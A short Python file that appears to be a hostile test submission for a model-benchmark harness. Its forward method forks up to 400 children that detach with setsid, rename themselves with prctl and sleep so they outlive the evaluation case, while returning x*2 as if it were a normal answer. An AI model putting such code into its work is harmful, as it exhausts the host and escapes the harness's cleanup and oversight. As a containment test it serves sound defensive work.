"""A fork storm whose children leave the process group (setsid), rename themselves and sleep,
hoping to outlive the case; the parent forks until the system refuses."""
import ctypes
import os
import time

import torch.nn as nn

PR_SET_NAME = 15


class ModelNew(nn.Module):
    def forward(self, x):
        for _ in range(400):  # bounded, so that an unconfined run does not take the machine
            if os.fork() == 0:
                os.setsid()
                ctypes.CDLL(None).prctl(PR_SET_NAME, b"kdiff-hostile", 0, 0, 0)
                time.sleep(120)
                os._exit(0)
        return x * 2
